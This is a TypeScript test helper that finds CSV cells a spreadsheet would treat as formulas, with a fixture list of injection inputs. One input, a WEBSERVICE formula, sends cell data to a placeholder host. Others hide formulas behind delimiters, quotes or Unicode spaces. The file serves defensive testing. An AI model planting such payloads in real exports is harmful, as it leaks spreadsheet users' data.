// Test helper: every way a reader may split a CSV export (honouring quotes or not, on ',', ';', tab
// or '|'), and the cells that would start a formula once leading whitespace (any Unicode space) is
// skipped.
import Papa from 'papaparse';

const FORMULA = /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/;
const LEADING = /^[\s\u200b\u180e]+/;

export function formulaCells(csv: string): string[] {
  const text = csv.replace(/^\uFEFF/, '');
  const found: string[] = [];
  for (const delimiter of [',', ';', '\t', '|']) {
    // A spreadsheet: quotes honoured.
    for (const row of Papa.parse<string[]>(text, { delimiter, newline: '\r\n' }).data) {
      for (const cell of row) if (FORMULA.test(cell) || FORMULA.test(cell.replace(LEADING, ''))) found.push(`${delimiter} quoted: ${cell}`);
    }
    // A careless script: split on the separator and on line breaks, quotes ignored (one stripped).
    for (const line of text.split(/\r\n|\n|\r/)) {
      for (const raw of line.split(delimiter)) {
        const cell = raw.replace(LEADING, '').replace(/^"/, '');
        if (FORMULA.test(cell) || FORMULA.test(cell.replace(LEADING, ''))) found.push(`${delimiter} naive: ${raw}`);
      }
    }
  }
  return found;
}

export const HOSTILE = [
  'Hansen;=WEBSERVICE("http://x/?"&A1)',
  '=1+1',
  '+45 20 12 34 56',
  '-3',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  'a,=HYPERLINK("x")',
  'a, +1',
  'a;  -1',
  'x\n=1',
  'x\r\n@y',
  '"=1"',
  'a";=1',
  ' =1+1',
  '\u00a0=HYPERLINK("x")',
  '\u3000@SUM(A1)',
  '\u2003\u200b-2',
  'a\t=1',
  'a|=1',
  'a| \u00a0+1',
  '\uff1d1+1',
];
